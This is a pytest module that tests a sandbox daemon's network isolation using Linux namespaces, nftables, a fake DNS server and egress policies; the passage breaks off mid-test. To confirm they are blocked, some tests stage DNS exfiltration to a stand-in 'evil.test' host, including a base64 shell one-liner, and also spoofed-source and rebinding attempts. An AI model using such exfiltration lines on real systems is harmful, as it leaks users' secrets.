"""Sandbox networking (src/brigd/net/, docs/network.md) against real network
namespaces and real nftables.

The "internet" is a network namespace these tests create (brigtest-inet),
reached from the host through a veth and serving, on TEST-NET-2 addresses:
HTTP on 198.51.100.10 ("allowed.test") and 198.51.100.20 ("other.test"), and
an authoritative DNS server for the made-up zone .test on 198.51.100.53, which
is the DNS proxy's upstream.  It also holds 169.254.169.254 and 10.99.0.1 (a
metadata and a private address), routed from the host to it, so that a
"denied" result means the firewall said no, not that nothing was there.
No packet leaves the namespaces these tests create.

The module's tests run the network module in a namespace of their own
(brigtest-host) standing for the host: its nftables table, NFLOG group,
links and forwarding switch are that namespace's, so these tests neither see
nor disturb a brigd running on the real host (or the session's).

Two tiers:
- the module, driven by tests/unit/test_net_harness (a test binary calling
  brig_net_attach & co. on namespaces made with `ip netns add`);
- end to end through brigd's API (projects' egress, network log).
Every test ends with a leak check: no sandbox link, no test namespace, no
firewall element, no process of ours left.
"""

import json
import os
import pathlib
import shutil
import socket
import subprocess
import sys
import tempfile
import time

import pytest

sys.path.insert(0, os.path.dirname(__file__))
import brigtest  # noqa: E402

if os.geteuid() != 0:
    pytest.skip("network tests need root", allow_module_level=True)

HARNESS = os.path.join(brigtest.BUILD, "tests", "unit", "test_net_harness")
INET = "brigtest-inet"
HOSTNS = "brigtest-host"  # the module's "host": a namespace of its own (see below)
HOST_IF = "bt-inet0"
HOST_ADDR = "198.51.100.1"
INET_ADDR = "198.51.100.2"
ALLOWED = "198.51.100.10"
OTHER = "198.51.100.20"
DNS = "198.51.100.53"
META = "169.254.169.254"
PRIV = "10.99.0.1"
API_ADDR = "198.51.100.30"  # api.test and second.test: test_injection.py's servers
SECOND_ADDR = "198.51.100.40"
PKGS_ADDR = "198.51.100.60"  # pkgs.test: test_user_templates_net.py's apt and npm registry
OPEN = {"mode": "open"}
# The sandboxes' namespaces are named per test process: /run/netns is the host's,
# and a leftover of an earlier run must not make this one's `ip netns add` fail.
SB_PREFIX = f"brigtest-sb{os.getpid()}-"
NONE = {"mode": "none"}

# ---------------------------------------------------------------- the internet

SERVER = r'''
import http.server, socket, socketserver, struct, sys, threading
LOG = sys.argv[1]
ZONE = {  # name -> (address, ttl)
    "allowed.test": ("198.51.100.10", 60), "other.test": ("198.51.100.20", 60),
    "a.wild.test": ("198.51.100.10", 60), "deep.a.wild.test": ("198.51.100.10", 60),
    "meta.test": ("169.254.169.254", 60), "priv.test": ("10.99.0.1", 60),
    "short.test": ("198.51.100.20", 1),
    "api.test": ("198.51.100.30", 60), "second.test": ("198.51.100.40", 60),
    "wrong.test": ("198.51.100.40", 60), "pkgs.test": ("198.51.100.60", 60),
}
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = ("hello from %s\n" % self.server.server_address[0]).encode()
        self.send_response(200); self.send_header("Content-Length", str(len(body)))
        self.end_headers(); self.wfile.write(body)
    def log_message(self, *a): pass
class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True
    def server_bind(self):  # no reverse lookup of our own address
        socketserver.TCPServer.server_bind(self)
        self.server_name, self.server_port = self.server_address[:2]
def http_on(addr, port):
    s = S((addr, port), H); threading.Thread(target=s.serve_forever, daemon=True).start()
def echo_on(addr, port):
    ls = socket.socket(); ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((addr, port)); ls.listen(16)
    def serve(c):
        with c:
            while True:
                d = c.recv(4096)
                if not d: return
                c.sendall(d)
    def acc():
        while True:
            c, _ = ls.accept(); threading.Thread(target=serve, args=(c,), daemon=True).start()
    threading.Thread(target=acc, daemon=True).start()
for a in ("198.51.100.10", "198.51.100.20", "169.254.169.254", "10.99.0.1"):
    http_on(a, 80)
http_on("198.51.100.10", 8080)
echo_on("198.51.100.10", 9000)
def dns():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("198.51.100.53", 53))
    while True:
        q, peer = s.recvfrom(4096)
        if len(q) < 12: continue
        i, labels = 12, []
        while i < len(q) and q[i]:
            labels.append(q[i + 1:i + 1 + q[i]].decode("latin-1")); i += 1 + q[i]
        name = ".".join(labels).lower(); qtype = struct.unpack(">H", q[i + 1:i + 3])[0]
        with open(LOG, "a") as f: f.write(name + "\n")
        qend = i + 5
        hit = ZONE.get(name)
        flags = 0x8400 | (q[2] & 1) << 8
        if hit is None: flags |= 3
        an = b""
        if hit and qtype == 1:
            an = b"\xc0\x0c\x00\x01\x00\x01" + struct.pack(">IH", hit[1], 4) + socket.inet_aton(hit[0])
        hdr = q[:2] + struct.pack(">HHHHH", flags, 1, 1 if an else 0, 0, 0)
        s.sendto(hdr + q[12:qend] + an, peer)
threading.Thread(target=dns, daemon=True).start()
print("ready", flush=True)
threading.Event().wait()
'''

# Runs inside a sandbox's namespace: one JSON line out.
CLIENT = r'''
import json, socket, struct, sys, time
cmd = sys.argv[1]
def out(**k): print(json.dumps(k)); sys.exit(0)
if cmd == "dns":  # dns NAME SERVER [tcp] [TYPE]
    name, server = sys.argv[2], sys.argv[3]
    tcp = len(sys.argv) > 4 and sys.argv[4] == "tcp"
    qtype = int(sys.argv[5]) if len(sys.argv) > 5 else 1
    q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for l in name.split("."): q += bytes([len(l)]) + l.encode()
    q += b"\x00" + struct.pack(">HH", qtype, 1)
    try:
        if tcp:
            s = socket.create_connection((server, 53), timeout=3)
            s.sendall(struct.pack(">H", len(q)) + q)
            n = struct.unpack(">H", s.recv(2))[0]; r = b""
            while len(r) < n: r += s.recv(n - len(r))
        else:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
            s.sendto(q, (server, 53)); r, _ = s.recvfrom(4096)
    except OSError as e:
        out(error=str(e))
    rcode = r[3] & 0xf; an = struct.unpack(">H", r[6:8])[0]
    i = 12 + len(q) - 12; addrs = []
    for _ in range(an):
        i += 2; t, c, ttl, l = struct.unpack(">HHIH", r[i:i + 10]); i += 10
        if t == 1: addrs.append(socket.inet_ntoa(r[i:i + 4]))
        i += l
    out(id=struct.unpack(">H", r[:2])[0], rcode=rcode, answer=addrs)
if cmd == "tcp":  # tcp HOST PORT [SRC]: connect, send a GET, read the first line
    host, port = sys.argv[2], int(sys.argv[3])
    s = socket.socket(); s.settimeout(2)
    if len(sys.argv) > 4:
        s.setsockopt(socket.SOL_IP, 19, 1)  # IP_TRANSPARENT: any source address
        s.bind((sys.argv[4], 0))
    try:
        if not host[0].isdigit(): host = socket.gethostbyname(host)
        s.connect((host, port)); s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        out(ok=True, line=s.recv(200).decode(errors="replace").splitlines()[0])
    except (OSError, IndexError) as e:
        out(ok=False, error=str(e))
if cmd == "resolve":
    try: out(ok=True, addr=socket.gethostbyname(sys.argv[2]))
    except OSError as e: out(ok=False, error=str(e))
if cmd == "keep":  # keep HOST PORT: echo once, then again after each stdin line
    s = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=2)
    s.sendall(b"ping\n"); print(json.dumps({"first": s.recv(10).decode()}), flush=True)
    for line in sys.stdin:
        try:
            s.sendall(b"again\n"); print(json.dumps({"ok": True, "got": s.recv(10).decode()}), flush=True)
        except OSError as e:
            print(json.dumps({"ok": False, "error": str(e)}), flush=True)
if cmd == "listen":  # listen ADDR PORT [SECONDS]: accept one connection
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((sys.argv[2], int(sys.argv[3]))); s.listen(1)
    s.settimeout(float(sys.argv[4]) if len(sys.argv) > 4 else 3)
    print("listening", flush=True)
    try: c, peer = s.accept(); out(accepted=peer[0])
    except OSError: out(accepted=None)
'''


def sh(*cmd, check=True, **kw):
    return subprocess.run(cmd, check=check, capture_output=True, text=True, **kw)


def hx(*cmd, check=True, **kw):
    """A command in the test host namespace."""
    return sh("ip", "netns", "exec", HOSTNS, *cmd, check=check, **kw)


def netns_list():
    r = sh("ip", "netns", "list", check=False)
    return [line.split()[0] for line in r.stdout.splitlines() if line.strip()]


def sandbox_links(run=None):
    r = (run or hx)("ip", "-o", "link", "show", check=False)
    names = [line.split(":")[1].strip().split("@")[0] for line in r.stdout.splitlines()]
    return [n for n in names if n.startswith("brg") and len(n) == 15]


def table_elements(run=None):
    """Elements of the per-sandbox sets of the table (none when it is absent)."""
    r = (run or hx)("nft", "-j", "list", "table", "inet", "brig", check=False)
    if r.returncode != 0:
        return []
    left = []
    for item in json.loads(r.stdout)["nftables"]:
        for kind in ("set", "map"):
            s = item.get(kind)
            if s and s["name"] not in ("deny_always", "deny_private") and s.get("elem"):
                left.append((s["name"], s["elem"]))
    return left


@pytest.fixture(scope="module")
def inet():
    if not os.path.exists(HARNESS):
        pytest.skip(f"{HARNESS} not built")
    for tool in ("ip", "nft"):
        if sh("which", tool, check=False).returncode != 0:
            pytest.skip(f"{tool} not installed")
    tmp = pathlib.Path(tempfile.mkdtemp(prefix="brigtest-net-"))
    (tmp / "server.py").write_text(SERVER)
    (tmp / "client.py").write_text(CLIENT)
    dnslog = tmp / "dns.log"
    dnslog.write_text("")
    teardown_inet()
    sh("ip", "netns", "add", INET)
    sh("ip", "netns", "add", HOSTNS)
    hx("ip", "link", "set", "lo", "up")
    hx("sysctl", "-qw", "net.ipv4.ip_forward=0")  # as on a host that routes nothing
    hx("ip", "link", "add", HOST_IF, "type", "veth", "peer", "name", "eth0", "netns", INET)
    hx("ip", "addr", "add", f"{HOST_ADDR}/24", "dev", HOST_IF)
    hx("ip", "link", "set", HOST_IF, "up")
    n = ["ip", "netns", "exec", INET]
    sh(*n, "ip", "link", "set", "lo", "up")
    sh(*n, "ip", "link", "set", "eth0", "up")
    for a in (INET_ADDR + "/24", ALLOWED + "/32", OTHER + "/32", DNS + "/32", META + "/32",
              PRIV + "/32", API_ADDR + "/32", SECOND_ADDR + "/32", PKGS_ADDR + "/32"):
        sh(*n, "ip", "addr", "add", a, "dev", "eth0")
    # No default route: replies go to the masqueraded source (198.51.100.1),
    # on link; the namespace can reach nothing else.  Its resolver is its own.
    os.makedirs(f"/etc/netns/{INET}", exist_ok=True)
    with open(f"/etc/netns/{INET}/resolv.conf", "w") as f:
        f.write(f"nameserver {DNS}\n")
    # Host routes for the two "must never be reached" addresses lead into our
    # own namespace, never out of the machine.
    hx("ip", "route", "add", f"{META}/32", "via", INET_ADDR, "dev", HOST_IF)
    hx("ip", "route", "add", f"{PRIV}/32", "via", INET_ADDR, "dev", HOST_IF)
    srv = subprocess.Popen(n + ["/usr/bin/python3", str(tmp / "server.py"), str(dnslog)],
                           stdout=subprocess.PIPE, text=True)
    assert srv.stdout.readline().strip() == "ready"
    state = tmp / "state"  # one for the module: it remembers who turned forwarding on
    state.mkdir()
    yield {"tmp": tmp, "client": str(tmp / "client.py"), "dnslog": dnslog, "state": str(state)}
    srv.kill()
    srv.wait()
    teardown_inet()
    shutil.rmtree(tmp, ignore_errors=True)
    assert INET not in netns_list() and HOSTNS not in netns_list()


def teardown_inet():
    shutil.rmtree(f"/etc/netns/{INET}", ignore_errors=True)
    for ns in (HOSTNS, INET):  # the host namespace takes every link in it along
        if ns in netns_list():
            sh("ip", "netns", "del", ns)


# ---------------------------------------------------------------- the module


class Harness:
    """test_net_harness: the network module in a process of its own."""

    def __init__(self, state):
        env = dict(os.environ, BRIG_DNS_UPSTREAM=f"{DNS}:53", BRIG_NET_STATE=state,
                   ASAN_OPTIONS="detect_leaks=1")
        self.stderr = tempfile.TemporaryFile(mode="w+")
        self.proc = subprocess.Popen(["ip", "netns", "exec", HOSTNS, HARNESS], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                     stderr=self.stderr, text=True, env=env)
        assert self.read()["ok"], self.log()

    def read(self):
        line = self.proc.stdout.readline()
        assert line, f"harness died: {self.log()}"
        return json.loads(line)

    def cmd(self, *words, ok=True):
        self.proc.stdin.write(" ".join(words) + "\n")
        self.proc.stdin.flush()
        r = self.read()
        if ok:
            assert r["ok"], r
        return r

    def log(self):
        self.stderr.seek(0)
        return self.stderr.read()

    def quit(self):
        if self.proc.poll() is None:
            self.proc.stdin.write("quit\n")
            self.proc.stdin.flush()
            self.proc.wait(timeout=20)
        assert self.proc.returncode in (0, -9), self.log()
        if self.proc.returncode == 0:
            assert "ERROR: AddressSanitizer" not in self.log(), self.log()
            assert "LeakSanitizer" not in self.log(), self.log()

    def kill(self):
        self.proc.kill()
        self.proc.wait()


class Sandbox:
    """A network namespace attached through the harness."""

    count = 0

    def __init__(self, h, inet, policy):
        Sandbox.count += 1
        self.h, self.inet = h, inet
        self.name = f"{SB_PREFIX}{Sandbox.count}"
        self.id = f"sbx_test{Sandbox.count:022d}"
        self.attached = False
        sh("ip", "netns", "add", self.name)
        try:
            r = h.cmd("attach", self.id, f"/run/netns/{self.name}", json.dumps(policy))
        except BaseException:
            sh("ip", "netns", "del", self.name, check=False)  # not handed to the fixture yet
            raise
        self.ms = r["ms"]
        self.resolv = r["resolv_conf"]
        self.gw = self.resolv.split()[1]
        self.addr = socket.inet_ntoa(
            (int.from_bytes(socket.inet_aton(self.gw), "big") + 1).to_bytes(4, "big"))
        os.makedirs(f"/etc/netns/{self.name}", exist_ok=True)
        with open(f"/etc/netns/{self.name}/resolv.conf", "w") as f:
            f.write(self.resolv)
        self.attached = True

    def run(self, *args, timeout=15):
        return client(self.inet, self.name, *args, timeout=timeout)

    def popen(self, *args):
        return client_popen(self.inet, self.name, *args)

    def dns(self, name, *extra):
        return self.run("dns", name, self.gw, *extra)

    def http(self, host, port=80, src=None):
        return self.run("tcp", host, str(port), *([src] if src else []))

    def policy(self, p):
        return self.h.cmd("policy", self.id, json.dumps(p))

    def log(self):
        return self.h.cmd("log", self.id)["log"]

    def detach(self):
        if self.attached:
            self.h.cmd("detach", self.id)
            self.attached = False

    def remove(self):
        try:
            self.detach()
        finally:  # a failed detach must not leave the namespace to the next run
            sh("rm", "-rf", f"/etc/netns/{self.name}")
            sh("ip", "netns", "del", self.name, check=False)


@pytest.fixture
def harness(inet):
    h = Harness(inet["state"])
    made = []

    def new(policy=OPEN):
        sb = Sandbox(h, inet, policy)
        made.append(sb)
        return sb

    h.new = new
    yield h
    errors = []
    for sb in made:
        if h.proc.poll() is not None:
            sb.attached = False
        try:
            sb.remove()
        except Exception as e:  # remove the others all the same, then fail
            errors.append(e)
    h.quit()
    assert errors == []
    # Leak check: nothing of any sandbox is left.
    assert sandbox_links() == []
    assert [n for n in netns_list() if n.startswith(SB_PREFIX)] == []
    assert table_elements() == []
    assert h.proc.poll() is not None
    assert sh("pgrep", "-f", inet["client"], check=False).stdout.strip() == "", "client left"


def client(inet, ns, *args, timeout=15):
    """client.py in namespace ns: its one JSON line."""
    r = sh("ip", "netns", "exec", ns, "/usr/bin/python3", inet["client"], *args,
           timeout=timeout, check=False)
    assert r.returncode == 0, r.stderr
    return json.loads(r.stdout)


def client_popen(inet, ns, *args):
    return subprocess.Popen(["ip", "netns", "exec", ns, "/usr/bin/python3", inet["client"], *args],
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)


def wait_log(sb, pred, timeout=3.0):
    deadline = time.monotonic() + timeout
    while True:
        log = sb.log()
        hits = [r for r in log if pred(r)]
        if hits or time.monotonic() > deadline:
            return hits
        time.sleep(0.05)


def test_open_reaches_the_internet_by_name_and_address(harness):
    sb = harness.new(OPEN)
    assert sb.resolv.startswith("nameserver ")
    r = sb.dns("allowed.test")
    assert r["rcode"] == 0 and r["answer"] == [ALLOWED]
    assert sb.http("allowed.test") == {"ok": True, "line": "HTTP/1.0 200 OK"}
    assert sb.http(OTHER)["ok"]
    assert sb.dns("missing.test")["rcode"] == 3  # upstream's NXDOMAIN passes through
    recs = [r for r in sb.log() if r["kind"] == "dns"]
    first = recs[0]
    assert first["name"] == "allowed.test" and first["type"] == "A" and first["allowed"]
    assert first["answer"] == [ALLOWED] and first["time"].endswith("Z")
    assert any(r["name"] == "missing.test" and r["rcode"] == "NXDOMAIN" for r in recs)


def test_dns_over_tcp(harness):
    sb = harness.new({"mode": "allowlist", "domains": ["allowed.test"]})
    assert sb.dns("allowed.test", "tcp") == {"id": 0x4242, "rcode": 0, "answer": [ALLOWED]}
    assert sb.dns("other.test", "tcp")["rcode"] == 5
    assert sb.http(ALLOWED)["ok"]


def test_allowlist(harness, inet):
    sb = harness.new({"mode": "allowlist", "domains": ["allowed.test", "*.wild.test"]})
    assert sb.http("allowed.test")["ok"]
    assert sb.http("a.wild.test")["ok"]
    assert sb.http("deep.a.wild.test")["ok"]
    # unlisted: REFUSED, not resolved upstream, and its raw address is closed
    r = sb.dns("other.test")
    assert r["rcode"] == 5 and r["answer"] == []
    assert "other.test" not in inet["dnslog"].read_text().split()
    assert not sb.http(OTHER)["ok"]
    assert not sb.http("wild.test")["ok"]
    denied = wait_log(sb, lambda r: r["kind"] == "denied" and r["dst"] == OTHER)
    assert denied and denied[0]["proto"] == "tcp" and denied[0]["dport"] == 80
    assert denied[0]["reason"] == "policy" and denied[0]["src"] == sb.addr
    refused = [r for r in sb.log() if r["kind"] == "dns" and r["name"] == "other.test"]
    assert refused and refused[0]["allowed"] is False and refused[0]["rcode"] == "REFUSED"


def test_allowlist_cidrs_and_ports(harness):
    sb = harness.new({"mode": "allowlist", "domains": ["allowed.test"],
                      "cidrs": [f"{OTHER}/32", "10.99.0.0/24"], "ports": [80]})
    assert sb.http(OTHER)["ok"]  # by CIDR, no lookup
    assert sb.http(PRIV)["ok"]  # a private range opened by CIDR
    assert sb.http("allowed.test")["ok"]
    assert not sb.http(ALLOWED, 8080)["ok"]  # port not listed
    sb.policy({"mode": "allowlist", "domains": ["allowed.test"], "ports": [8080]})
    assert sb.http(ALLOWED, 8080)["ok"]
    assert not sb.http(OTHER)["ok"]


def test_none_reaches_nothing(harness):
    sb = harness.new(NONE)
    assert sb.dns("allowed.test")["rcode"] == 5
    for host in (ALLOWED, OTHER, DNS):
        assert not sb.http(host)["ok"]
    assert "error" in sb.run("dns", "allowed.test", DNS)  # no resolver around the proxy


def test_dns_exfiltration_is_refused_and_logged(harness, inet):
    import base64
    secret = base64.b32encode(b"secret").decode().strip("=").lower()
    sb = harness.new({"mode": "allowlist", "domains": ["allowed.test"]})
    r = sb.dns(f"{secret}.evil.test")
    assert r["rcode"] == 5 and r["answer"] == []
    txt = sb.dns(f"{secret}.evil.test", "udp", "16")
    assert txt["rcode"] == 5
    assert secret not in inet["dnslog"].read_text()
    logged = [r for r in sb.log() if r["kind"] == "dns" and r["name"].startswith(secret)]
    assert len(logged) == 2 and not any(r["allowed"] for r in logged)
    assert {r["type"] for r in logged} == {"A", "TXT"}


def test_always_denied(harness, inet):
    sb = harness.new(OPEN)
    # a stand-in for brigd's API: listening on every address of the host
    port = "7070"
    ls = client_popen(inet, HOSTNS, "listen", "0.0.0.0", port, "8")
    assert ls.stdout.readline().strip() == "listening"
    try:
        for host in (sb.gw, HOST_ADDR, "127.0.0.1"):  # 127.0.0.1: the sandbox's own
            assert not sb.http(host, int(port))["ok"], host
        assert json.loads(ls.stdout.readline()) == {"accepted": None}
        assert not sb.http(META)["ok"]
        assert not sb.http(PRIV)["ok"]
        # DNS rebinding: a listed name answering a metadata or private address
        sb.policy({"mode": "allowlist", "domains": ["meta.test", "priv.test"]})
        assert sb.dns("meta.test")["answer"] == [META]
        assert not sb.http("meta.test")["ok"]
        assert not sb.http("priv.test")["ok"]
    finally:
        ls.kill()
        ls.wait()
    reasons = {(r["dst"], r["reason"]) for r in
               wait_log(sb, lambda r: r["kind"] == "denied")}
    assert (sb.gw, "host") in reasons and (HOST_ADDR, "host") in reasons
    assert (META, "policy") in reasons and (PRIV, "policy") in reasons


def test_sandboxes_are_isolated_and_unreachable(harness, inet):
    a, b = harness.new(OPEN), harness.new(OPEN)
    for (src, dst) in ((a, b), (b, a)):
        lp = dst.popen("listen", dst.addr, "8000")
        assert lp.stdout.readline().strip() == "listening"
        assert not src.http(dst.addr, 8000)["ok"]
        assert "error" in src.run("dns", "allowed.test", dst.gw)  # not its DNS proxy
        assert json.loads(lp.stdout.readline()) == {"accepted": None}
        lp.wait()
    # from the host namespace into a sandbox
    lp = a.popen("listen", a.addr, "8001")
    assert lp.stdout.readline().strip() == "listening"
    assert not client(inet, HOSTNS, "tcp", a.addr, "8001")["ok"]
    assert json.loads(lp.stdout.readline()) == {"accepted": None}
    lp.wait()
    inbound = wait_log(a, lambda r: r["kind"] == "denied" and r["direction"] == "in")
    assert inbound and inbound[0]["dst"] == a.addr and inbound[0]["dport"] == 8001
    assert wait_log(a, lambda r: r["kind"] == "denied" and r["dst"] == b.addr)


def test_spoofed_source_is_dropped(harness):
    sb = harness.new(OPEN)
    assert sb.http(ALLOWED)["ok"]
    for src in ("10.201.250.7", "198.51.100.99", OTHER):
        assert not sb.http(ALLOWED, src=src)["ok"], src
    spoofed = wait_log(sb, lambda r: r["kind"] == "denied" and r["reason"] == "spoofed")
    assert spoofed and spoofed[0]["src"] in ("10.201.250.7", "198.51.100.99", OTHER)


def test_policy_change_applies_within_a_second(harness):
    sb = harness.new(OPEN)
    keep = sb.popen("keep", ALLOWED, "9000")
    assert json.loads(keep.stdout.readline()) == {"first": "ping\n"}
    assert sb.http(OTHER)["ok"]
    t0 = time.monotonic()
    r = sb.policy(NONE)
    assert r["ms"] < 1000
    assert not sb.http(OTHER)["ok"]
    assert time.monotonic() - t0 < 3.5  # the failed connect itself waits 2 s
    # an established connection is cut as well
    keep.stdin.write("x\n")
    keep.stdin.flush()
    assert json.loads(keep.stdout.readline())["ok"] is False
    keep.kill()
    keep.wait()
    sb.policy(OPEN)
    assert sb.http(OTHER)["ok"]
    # allowlist -> a narrower allowlist: addresses opened for a name that is no
    # longer listed close at once
    sb.policy({"mode": "allowlist", "domains": ["allowed.test", "other.test"]})
    assert sb.http("other.test")["ok"]
    sb.policy({"mode": "allowlist", "domains": ["allowed.test"]})
    assert not sb.http(OTHER)["ok"]
    assert sb.http("allowed.test")["ok"]


def test_dns_answers_open_for_their_ttl(harness):
    sb = harness.new({"mode": "allowlist", "domains": ["short.test"]})
    assert sb.dns("short.test")["answer"] == [OTHER]
    r = hx("nft", "list", "set", "inet", "brig", "allow_dns").stdout
    assert OTHER in r and "timeout 10s" in r  # a 1 s TTL is held for the 10 s minimum
    assert sb.http(OTHER)["ok"]


def test_ipv6_is_no_path(harness):
    sb = harness.new(OPEN)
    inside = sh("ip", "netns", "exec", sb.name, "ip", "-6", "addr", "show", "dev", "eth0").stdout
    assert "inet6" not in inside
    routes = sh("ip", "netns", "exec", sb.name, "ip", "-6", "route", "show").stdout
    assert "default" not in routes
    link = [n for n in sandbox_links()][0]
    assert hx("cat", f"/proc/sys/net/ipv6/conf/{link}/disable_ipv6").stdout.strip() == "1"
    assert "inet6" not in hx("ip", "-6", "addr", "show", "dev", link).stdout
    # even a sandbox that gives itself IPv6 gets nothing through the host
    n = ["ip", "netns", "exec", sb.name]
    sh(*n, "ip", "-6", "addr", "add", "fd00:bad::2/64", "dev", "eth0", "nodad")
    sh(*n, "ip", "-6", "route", "add", "default", "dev", "eth0")
    r = sh(*n, "/usr/bin/python3", "-c",
           "import socket; s=socket.socket(socket.AF_INET6); s.settimeout(1)\n"
           "try: s.connect(('fd00:bad::1', 80)); print('connected')\n"
           "except OSError as e: print('failed')", check=False)
    assert r.stdout.strip() == "failed"


def test_restart_reattach_and_cleanup(harness, inet):
    keep = harness.new({"mode": "allowlist", "domains": ["allowed.test"]})
    gone = harness.new(OPEN)
    assert len(sandbox_links()) == 2
    harness.kill()  # a crash: links and firewall stay
    h2 = Harness(inet["state"])
    try:
        h2.cmd("reattach", keep.id, f"/run/netns/{keep.name}",
               json.dumps({"mode": "allowlist", "domains": ["allowed.test"]}))
        h2.cmd("cleanup", keep.id)
        assert len(sandbox_links()) == 1  # the other one's link is gone
        keep.h = h2
        assert keep.http("allowed.test")["ok"]
        assert not keep.http(OTHER)["ok"]
        gone.attached = False
        keep.detach()
    finally:
        h2.quit()


def test_attach_cost(harness):
    """Attach is on the create hot path: measure and report.  Its speed is measured by
    bench/ against a baseline in the same run (docs/benchmarks.md); here only a stall is
    a failure (a lock held across a slow revocation made attaches take minutes)."""
    times = [harness.new(OPEN).ms for _ in range(12)]
    times.sort()
    med = times[len(times) // 2]
    print(f"\nattach ms: median {med:.2f}, min {times[0]:.2f}, max {times[-1]:.2f}")
    assert times[-1] <= 2000, times


# ---------------------------------------------------------------- end to end

libc = __import__("ctypes").CDLL(None, use_errno=True)


class in_netns:
    """The calling thread in namespace name (sockets made and processes
    started meanwhile live there); restored on exit."""

    def __init__(self, name):
        self.name = name

    def __enter__(self):
        self.orig = os.open("/proc/thread-self/ns/net", os.O_RDONLY)
        fd = os.open(f"/run/netns/{self.name}", os.O_RDONLY)
        try:
            assert libc.setns(fd, 0x40000000) == 0  # CLONE_NEWNET
        finally:
            os.close(fd)

    def __exit__(self, *exc):
        assert libc.setns(self.orig, 0x40000000) == 0
        os.close(self.orig)


class NsApi(brigtest.Api):
    def request(self, *a, **kw):
        with in_netns(HOSTNS):
            return super().request(*a, **kw)


@pytest.fixture(scope="module")
def netd(inet):
    """A brigd of this module's own, started inside the test host namespace
    (so its firewall and links are there), with the test DNS as upstream."""
    d = brigtest.Brigd(os.path.join(inet["tmp"], "brigd"))
    assert hx("sysctl", "-n", "net.ipv4.ip_forward").stdout.strip() == "0"
    start_in_hostns(d)
    yield d
    stopped_clean(d)


def start_in_hostns(d):
    old = os.environ.get("BRIG_DNS_UPSTREAM")
    os.environ["BRIG_DNS_UPSTREAM"] = f"{DNS}:53"
    try:
        with in_netns(HOSTNS):
            d.start()
    finally:
        if old is None:
            del os.environ["BRIG_DNS_UPSTREAM"]
        else:
            os.environ["BRIG_DNS_UPSTREAM"] = old
    if "networking off" in d.log():
        d.stop()
        pytest.fail(f"brigd runs without networking:\n{d.log()}")
    d.net_api = NsApi(d.url, d.key)


def stopped_clean(d):
    """Stops d (which has no sandbox left) and checks that nothing of it stays:
    links, its table, and forwarding, which brigd turned on, is off again."""
    d.stop()
    left = brigtest.leftovers(d.state_dir)
    assert not left, f"left behind: {left}"
    brigtest.wait_for(lambda: sandbox_links() == [], what="links gone with their namespaces")
    assert hx("nft", "list", "table", "inet", "brig", check=False).returncode != 0
    assert hx("sysctl", "-n", "net.ipv4.ip_forward").stdout.strip() == "0"


@pytest.fixture
def napi(netd):
    a = netd.net_api
    yield a
    for sb in a.ok("GET", "/v1/sandboxes").json()["sandboxes"]:
        if sb.get("state") not in ("deleted", "ended"):
            a.request("DELETE", f"/v1/sandboxes/{sb['id']}")
    brigtest.wait_for(lambda: sandbox_links() == [], what="sandbox links gone")
    brigtest.wait_for(lambda: table_elements() == [], what="firewall elements gone")
    assert not brigtest.leftovers(netd.state_dir)


def sbexec(a, sid, cmd, timeout=20):
    r = a.exec(sid, cmd, timeout=timeout)
    return r["exit_code"], r["stdout"] + r["stderr"]


def fetch(a, sid, url):
    """curl in the sandbox (template base: busybox's static wget cannot resolve)."""
    return sbexec(a, sid, f"curl -sS -m 2 {url}")


def gateway(a, sid):
    rc, out = sbexec(a, sid, "cat /etc/resolv.conf")
    assert rc == 0 and out.startswith("nameserver 10."), out
    return out.split()[1]


def addr_of(a, sid):
    gw = gateway(a, sid)  # the sandbox's end of its /31 is the gateway + 1
    return socket.inet_ntoa((int.from_bytes(socket.inet_aton(gw), "big") + 1).to_bytes(4, "big"))


@pytest.mark.base
def test_e2e_policies_through_the_api(napi):
    p = napi.ok("POST", "/v1/projects", {"name": "net-e2e"}).json()
    sb = napi.create(template="base", project=p["id"])["id"]
    gateway(napi, sb)
    # open (the default)
    assert fetch(napi, sb, "http://allowed.test/") == (0, f"hello from {ALLOWED}\n")
    assert fetch(napi, sb, f"http://{OTHER}/")[0] == 0
    # allowlist, applied to the running sandbox within a second
    napi.ok("PATCH", f"/v1/projects/{p['id']}",
            {"egress": {"mode": "allowlist", "domains": ["allowed.test"]}})
    t0 = time.monotonic()
    assert fetch(napi, sb, f"http://{OTHER}/")[0] != 0
    assert time.monotonic() - t0 < 4.0
    assert fetch(napi, sb, "http://allowed.test/")[0] == 0
    assert fetch(napi, sb, "http://other.test/")[0] != 0
    rc, out = sbexec(napi, sb, "getent hosts $(echo secret | base64 | tr -d =).evil.test")
    assert rc != 0, out
    recs = napi.ok("GET", f"/v1/sandboxes/{sb}/network-log").json()["entries"]
    dns = [r for r in recs if r["kind"] == "dns"]
    assert any(r["name"] == "allowed.test" and r["allowed"] for r in dns)
    exfil = [r for r in dns if r["name"].endswith(".evil.test")]
    assert exfil and not any(r["allowed"] for r in exfil)
    assert {r["rcode"] for r in exfil} == {"REFUSED"}
    assert any(r["kind"] == "denied" and r["dst"] == OTHER for r in recs)
    # none
    napi.ok("PATCH", f"/v1/projects/{p['id']}", {"egress": {"mode": "none"}})
    assert fetch(napi, sb, "http://allowed.test/")[0] != 0
    assert fetch(napi, sb, f"http://{ALLOWED}/")[0] != 0
    napi.delete(sb)


def e2b(a, method, path, body=None):
    """E2B's control plane (docs/e2b.md), as its SDK sends it: X-API-KEY, no bearer."""
    return a.request(method, path, body, key=None, headers={"X-API-KEY": a.key})


@pytest.mark.base
def test_e2e_e2b_no_internet_access(napi, netd):
    """E2B's allow_internet_access: false (or network.denyOut: [ALL_TRAFFIC]) gives a sandbox
    no egress of its own: nothing its project's policy says opens it, neither a change of the
    policy nor a restart of brigd; other network options are refused by name."""
    made = {}
    for name, opts in (("shut", {"allow_internet_access": False}),
                       ("denied", {"network": {"denyOut": ["0.0.0.0/0"]}}),
                       ("open", {"allow_internet_access": True})):
